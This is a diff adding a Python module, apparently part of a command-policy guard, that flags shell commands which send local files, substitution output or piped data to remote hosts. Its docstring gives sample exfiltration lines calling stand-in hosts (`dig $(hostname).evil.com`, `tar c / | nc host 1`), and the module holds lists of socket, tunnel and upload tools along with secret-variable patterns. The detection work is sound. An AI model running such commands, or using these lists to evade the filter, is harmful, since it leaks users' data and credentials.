@@ -1,0 +1,256 @@
+"""Sinks: programs that send data off the machine, and what feeds them.
+
+A network program (HTTP clients, raw sockets, ssh/scp/rsync to another host, mail, DNS
+lookups) is a leak when it carries a payload: a local file (`curl -d @f`, `-T f`,
+`-F x=@f`, `nc host < f`, `scp f host:`), the output of a substitution (`curl
+"evil/$(id)"`, `dig $(hostname).evil.com`, a header `-H "X: $(cat f)"`) or a pipe
+(`tar c / | nc host 1`, `cat f | ssh host 'cat > x'`). Such a command is blocked unless
+every destination is this machine (loopback) and no payload is credential material.
+A request that sends nothing (`curl -s https://example.com`) is not a sink finding.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+from dataclasses import dataclass
+
+from shturman.policy.secrets import classify_path
+from shturman.policy.shell import Redirect, Word
+
+_HTTP = frozenset(["curl", "wget", "http", "https", "httpie", "xh", "aria2c", "lynx", "fetch"])
+_SOCKETS = frozenset(["nc", "ncat", "netcat", "socat", "telnet", "openssl", "s_client", "pwncat"])
+_REMOTE_COPY = frozenset(["scp", "rsync", "sftp"])
+_MAIL = frozenset(["mail", "mailx", "sendmail", "mutt", "msmtp", "ssmtp", "s-nail"])
+_DNS = frozenset(
+    [
+        "dig",
+        "nslookup",
+        "host",
+        "drill",
+        "delv",
+        "ping",
+        "ping6",
+        "traceroute",
+        "tracepath",
+        "mtr",
+        "whois",
+        "curlie",
+    ]
+)
+_CLOUD_COPY = frozenset(["aws", "gsutil", "rclone", "az", "s3cmd", "mc", "azcopy"])
+_TUNNELS = frozenset(["ngrok", "cloudflared", "localtunnel", "lt", "bore", "frpc", "chisel"])
+NETWORK = (
+    _HTTP
+    | _SOCKETS
+    | _REMOTE_COPY
+    | _MAIL
+    | _DNS
+    | _CLOUD_COPY
+    | _TUNNELS
+    | frozenset(["ssh", "git"])
+)
+_CLOUD_URL = re.compile(r"^(?:s3|gs|az|azure|wasbs?|abfss?)://|^[\w-]+:(?!//)\S*$")
+_GIT_NET = frozenset(["ls-remote", "clone", "fetch", "push", "pull", "archive", "remote"])
+_PAYLOAD_OPTS = ("-T", "--upload-file", "--post-file", "--body-file")
+_ATTACH_OPTS = ("-a", "-A", "--attach")  # mail programs
+_QUIET_INPUT = frozenset(["/dev/null", "/dev/zero", "-"])
+_DATA_OPTS = (
+    "-d",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-ascii",
+    "--data-urlencode",
+    "--json",
+    "-F",
+    "--form",
+    "--form-string",
+    "--post-data",
+    "--body-data",
+)
+_SUBSTITUTION = re.compile(r"\$\(|`|<\(")
+_SECRET_VAR = re.compile(
+    r"\$\{?[A-Za-z_]*(?:PASS|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE|CREDENTIAL|AUTH)"
+    r"[A-Za-z0-9_]*",
+    re.I,
+)
+_LOCAL = re.compile(
+    r"^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/]*@)?(localhost|127\.\d+\.\d+\.\d+|\[::1\]|::1)"
+    r"(?:[:/?#].*)?$",
+    re.I,
+)
+_HOSTISH = re.compile(
+    r"^(?:[a-z][a-z0-9+.-]*://\S+|[\w.-]+@[\w.-]+.*|[\w.-]+\.[a-z]{2,}\S*|"
+    r"\d+\.\d+\.\d+\.\d+\S*|localhost\S*|\[?::1\]?\S*)$",
+    re.I,
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Leak:
+    payload: str  # what is sent: a file, "substitution", "pipe"
+    sensitive: bool  # the payload is credential material
+
+
+def _value(args: Sequence[Word], opts: Sequence[str]) -> list[str]:
+    found: list[str] = []
+    for i, w in enumerate(args):
+        v = w.value
+        for o in opts:
+            if v == o and i + 1 < len(args):
+                found.append(args[i + 1].value)
+            elif o.startswith("--") and v.startswith(o + "="):
+                found.append(v[len(o) + 1 :])
+            elif len(o) == 2 and v.startswith(o) and len(v) > 2 and not v.startswith("--"):
+                found.append(v[2:])
+    return found
+
+
+def _files_sent(name: str, args: Sequence[Word]) -> list[str]:
+    files = list(_value(args, _ATTACH_OPTS if name in _MAIL else _PAYLOAD_OPTS))
+    for d in _value(args, _DATA_OPTS):
+        if d.startswith("@"):
+            files.append(d[1:])
+        elif "=@" in d or "=<" in d:
+            files.append(d.split("=", 1)[1][1:].split(";", 1)[0])
+    if name in _REMOTE_COPY:
+        pos = [w.value for w in args if not w.value.startswith("-")]
+        if len(pos) >= 2 and _remote_target(pos[-1]):
+            files.extend(p for p in pos[:-1] if not _remote_target(p))
+    if name == "socat":
+        files.extend(
+            w.value.split(":", 1)[1].split(",", 1)[0]
+            for w in args
+            if w.value.upper().startswith(("FILE:", "OPEN:", "GOPEN:"))
+        )
+    return [f for f in files if f and f not in _QUIET_INPUT]
+
+
+def values(args: Sequence[Word]) -> list[str]:
+    return [w.value for w in args]
+
+
+def _cloud_upload(name: str, args: Sequence[Word]) -> list[Leak]:
+    """`aws s3 cp LOCAL s3://…`, `gsutil cp LOCAL gs://…`, `rclone copy LOCAL remote:…`."""
+    pos = [w.value for w in args if not w.value.startswith("-")]
+    if name == "aws":
+        if pos[:1] != ["s3"] or len(pos) < 4 or pos[1] not in ("cp", "sync", "mv"):
+            return []
+        pos = pos[2:]
+    elif name in ("gsutil", "rclone", "s3cmd", "mc", "azcopy", "az"):
+        verbs = ("cp", "copy", "sync", "mv", "move", "rsync", "put", "copyto", "moveto")
+        start = next((i for i, p in enumerate(pos) if p in verbs), None)
+        if start is None:
+            return []
+        pos = pos[start + 1 :]
+    if len(pos) < 2 or not _CLOUD_URL.match(pos[-1]):
+        return []
+    local = [p for p in pos[:-1] if not _CLOUD_URL.match(p)]
+    return [Leak(p, classify_path(p) is not None) for p in local]
+
+
+def _remote_target(value: str) -> bool:
+    """`host:path`, `user@host:path`, `host::module`, `rsync://…` (not `C:` or `./a:b`)."""
+    if value.startswith("rsync://"):
+        return True
+    head = value.split(":", 1)[0]
+    return ":" in value and bool(head) and "/" not in head and len(head) > 1
+
+
+def _reads_stdin(name: str, args: Sequence[Word]) -> bool:
+    if name in _SOCKETS or name in _MAIL or name == "ssh":
+        return True
+    if name == "sftp":  # a batch file `-b -` read from stdin holds `put` commands
+        return any(w.value == "-b" for w in args)
+    values = [w.value for w in args]
+    if name in _HTTP:
+        return any(v in ("@-", "-") or v.endswith(("=@-", "@-")) for v in values) or (
+            "-T" in values and "." in values
+        )
+    return False
+
+
+def destinations(name: str, args: Sequence[Word]) -> list[str]:
+    """Where the program connects to (URLs, hosts, `host:` targets) as far as it is known."""
+    pos = [w.value for w in args if not w.value.startswith("-")]
+    if name == "sftp" and pos:
+        return pos[-1:]
+    if name in _REMOTE_COPY:
+        return [p.split(":", 1)[0] for p in pos if _remote_target(p)]
+    if name in ("ssh", "nc", "ncat", "netcat", "telnet") and pos:
+        return pos[:1]
+    if name == "socat":
+        return [
+            a.split(":", 2)[1]
+            for a in pos
+            if a.upper().startswith(("TCP", "UDP", "SSL", "OPENSSL")) and a.count(":") >= 1
+        ]
+    return [p for p in pos if _HOSTISH.match(p)]
+
+
+def leaks(
+    name: str,
+    args: Sequence[Word],
+    redirects: Sequence[Redirect],
+    piped: bool,
+) -> list[Leak]:
+    """The payloads a network program would send, or [] when it is no sink."""
+    if name not in NETWORK or (name == "openssl" and not any(w.value == "s_client" for w in args)):
+        return []
+    if name == "git":
+        sub = next((w.value for w in args if not w.value.startswith("-")), "")
+        if sub not in _GIT_NET:
+            return []
+    found: list[Leak] = []
+    if name in _TUNNELS:  # publishes a local port or directory to the internet
+        return [Leak("tunnel", True)] if name != "cloudflared" or "tunnel" in values(args) else []
+    if name in _CLOUD_COPY:
+        return _cloud_upload(name, args)
+    if name == "git" and "push" in values(args):
+        urls = [v for v in values(args) if "://" in v or _remote_target(v)]
+        return [Leak(f"push to {urls[0]}", False)] if urls else []
+    for f in _files_sent(name, args):
+        found.append(Leak(f, classify_path(f) is not None))
+    for i, w in enumerate(args):  # `-d @"$f"`: the file sent is only known at run time
+        opt = w.value.split("=", 1)[0]
+        nxt = args[i + 1] if i + 1 < len(args) else None
+        if opt in _DATA_OPTS + _PAYLOAD_OPTS and nxt is not None and not nxt.literal:
+            found.append(Leak("a file named at run time", False))
+            break
+    for w in args:
+        if not w.literal and _SUBSTITUTION.search(w.raw):
+            found.append(Leak("substitution", False))
+            break
+        if not w.literal and _SECRET_VAR.search(w.raw):
+            found.append(Leak("credential variable", True))
+            break
+    if _reads_stdin(name, args):
+        for r in redirects:
+            if r.op in ("<", "<>") and r.target is not None and r.target.value not in _QUIET_INPUT:
+                found.append(Leak(r.target.value, classify_path(r.target.value) is not None))
+        if piped:
+            found.append(Leak("pipe", False))
+    return found
+
+
+def to_loopback(name: str, args: Sequence[Word]) -> bool:
+    dests = destinations(name, args)
+    return bool(dests) and all(_LOCAL.match(d) for d in dests)
+
+
+_CODE_NET = re.compile(
+    r"urlopen|urllib|requests\.(?:post|put|get|request)|http\.client|httpx\.|socket\.|"
+    r"\bfetch\(|https?\.request|Net::HTTP|LWP::|IO::Socket|curl_exec|fsockopen|"
+    r"file_get_contents\(\s*['\"]https?:|TCPSocket|smtplib|ftplib"
+)
+_CODE_LOCAL = re.compile(
+    r"\bopen\(|read_text|read_bytes|readFile|File\.read|file_get_contents\(\s*['\"]/|"
+    r"environ|process\.env|\bENV\b|subprocess|check_output|popen|os\.system|`"
+)
+
+
+def code_leaks(code: str) -> bool:
+    """Interpreter code that reads local data (files, environment, command output) and
+    talks to the network: the data may be what it sends."""
+    return bool(_CODE_NET.search(code) and _CODE_LOCAL.search(code))
